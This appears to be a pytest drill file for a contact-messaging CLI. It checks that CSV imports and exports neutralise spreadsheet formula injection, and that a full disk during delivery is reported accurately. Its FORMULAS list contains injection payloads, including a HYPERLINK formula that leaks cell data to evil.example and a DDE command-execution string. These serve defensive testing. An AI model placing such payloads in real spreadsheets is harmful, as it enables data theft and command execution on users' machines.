"""Input and output safety drills, each through the real CLI in a subprocess:

- ``formula-cells``: contacts whose names, consent texts and sources start with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return are imported and delivered; every CSV the
  product writes (``import --rejected``, ``history export`` to a file and to standard
  output) holds no cell a spreadsheet would run, the JSON lines keep the text exactly,
  and the rejected-rows file imports again to the same rows.
- ``full-disk-during-delivery``: the database stops growing in the middle of ``send
  --wait``: one line that says how many were delivered (not "nothing was changed"), then
  ``outbox flush --wait`` delivers the rest.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import resource
import signal
from collections.abc import Callable
from pathlib import Path

import pytest

from regal_desktop.delivery.sender import DeliveryTarget
from regal_desktop.domain.spreadsheet import FORMULA_STARTS, formula_restored
from regal_desktop.sandbox import Sandbox
from regal_desktop.store.db import connect

from .tools import database, run_cli, states, tally

pytestmark = pytest.mark.drill

PayloadFile = Callable[..., tuple[Path, list[str]]]
WORKERS = DeliveryTarget("drill", "http://127.0.0.1/events", None).workers
#: What an attacker puts where a spreadsheet will show it.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click here")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]
HEADER = ["userId", "firstName", "phone", "smsOptIn", "optInText", "optInSource", "optInIp"]


def _rows() -> tuple[list[list[str]], list[str], list[str]]:
    """Rows for HEADER: a good one per formula (sent), a bad one per formula (rejected)."""
    rows, good, bad = [], [], []
    for number, formula in enumerate(FORMULAS):
        phone = f"+1305555{number:04d}"
        good.append(f"good-{number}")
        rows.append([good[-1], formula, phone, "yes", formula, formula, "203.0.113.7"])
        bad.append(f"bad-{number}")
        rows.append([bad[-1], formula, phone, "maybe", formula, formula, formula])
    return rows, good, bad


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


def _text(path: Path) -> str:
    """A CSV file's text with its line endings as written (a cell may hold a \\r)."""
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return stream.read()


def _no_formulas(name: str, rows: list[list[str]]) -> int:
    """Assert no cell of ``rows`` would run as a formula; returns how many cells."""
    cells = 0
    for number, row in enumerate(rows, start=1):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{name} row {number}: {cell!r}"
            cells += 1
    return cells


def test_formula_cells_in_every_csv_export(tmp_path: Path) -> None:
    rows, good, bad = _rows()
    source = tmp_path / "contacts.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([HEADER, *rows])
    rejected = tmp_path / "rejected.csv"
    evidence_csv, evidence_jsonl = tmp_path / "evidence.csv", tmp_path / "evidence.jsonl"
    with Sandbox() as sandbox:
        imported = run_cli(
            ["import", str(source), "--send", "--wait", "--rejected", str(rejected)], sandbox.url
        )
        assert imported.returncode == 1 and "Traceback" not in imported.stderr, imported.stderr
        with contextlib.redirect_stdout(io.StringIO()):  # one line, printed below
            delivered = tally("formula-cells", good, sandbox, bound=0)
    for out in (evidence_csv, evidence_jsonl):
        done = run_cli(["history", "export", str(out)])
        assert done.returncode == 0, done.stderr
    shown = run_cli(["history", "export", "-"])
    assert shown.returncode == 0, shown.stderr

    outputs = {
        "rejected rows": _cells(_text(rejected)),
        "evidence.csv": _cells(_text(evidence_csv)),
        "history export -": _cells(shown.stdout),
    }
    cells = sum(_no_formulas(name, found) for name, found in outputs.items())
    # Rejected rows: exactly the cells as the import read them (a quote in front of a
    # formula start is taken off: it only kept the spreadsheet from running it).
    read = [[formula_restored(cell) for cell in row] for row in rows if row[0] in bad]
    assert [[formula_restored(c) for c in row[2:]] for row in outputs["rejected rows"][1:]] == read
    again = run_cli(["import", str(rejected), "--out", str(tmp_path / "again.jsonl")])
    assert again.returncode == 1 and f"{len(bad)} rejected" in again.stderr, again.stderr
    # Evidence: the texts as sent, exactly, in JSON lines; the CSV says the same.
    records = [json.loads(line) for line in evidence_jsonl.read_text("utf-8").splitlines()]
    assert sorted({r["text"] for r in records}) == sorted(
        {formula_restored(f).strip() for f in FORMULAS}
    )
    texts = [formula_restored(row[4]) for row in outputs["evidence.csv"][1:]]
    assert texts == [r["text"] for r in records]
    print(f"{delivered.line()}; 3 CSV files, {cells} cells, 0 formulas; JSON lines exact")


def _file_size_cap(limit: int) -> Callable[[], None]:
    def cap() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return cap


def test_full_disk_during_delivery_says_what_went_out(payload_file: PayloadFile) -> None:
    path, ids = payload_file(300, notes=400)
    connect(database()).close()
    # Room to queue the 300 (about 400 KiB) but not to record every answer.
    limit = database().stat().st_size + 800 * 1024
    with Sandbox() as sandbox:
        full = run_cli(["send", "--wait", str(path)], sandbox.url, preexec_fn=_file_size_cap(limit))
        assert full.returncode == 2 and "Traceback" not in full.stderr, full.stderr
        [line] = [x for x in full.stderr.splitlines() if x.startswith("regal-desktop:")]
        assert str(database()) in line and "stay in the outbox" in line, line
        assert "nothing was changed" not in line
        arrived = sandbox.accepted_count
        assert 0 < arrived < len(ids), f"the cap did not stop the delivery midway: {arrived}"
        delivered = int(line.split("delivery stopped after ")[1].split()[0])
        assert delivered == states(database()).get("delivered", 0) <= arrived
        again = run_cli(["outbox", "flush", "--wait"], sandbox.url)
        assert again.returncode == 0, again.stderr
        tally("full-disk-during-delivery", ids, sandbox, bound=WORKERS)
    assert states(database()) == {"delivered": len(ids)}
